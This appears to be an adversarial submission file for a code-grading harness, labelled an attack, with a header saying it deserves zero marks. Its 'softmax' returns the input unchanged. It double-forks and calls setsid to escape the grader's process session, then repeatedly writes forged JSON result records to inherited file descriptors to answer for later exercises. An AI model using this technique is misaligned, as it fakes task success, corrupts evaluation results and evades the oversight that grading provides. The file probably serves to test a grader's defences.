# /// attack
# about = "forks twice, leaves its session, and answers for the exercises that follow"
# module = "worked_example"
# base = "reference"
# deserves = { "worked_example.softmax" = 0, "worked_example.self_attention" = 0 }
# log = "os"
# ///
import contextlib
import os
import time


def _answer_for_others():
    for _ in range(200):
        for descriptor in range(3, 64):
            with contextlib.suppress(OSError):
                os.write(descriptor, b'\n{"place": 4, "said": "e30="}\n')
        time.sleep(0.001)


def softmax(scores, axis=-1):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            _answer_for_others()
        os._exit(0)
    return scores
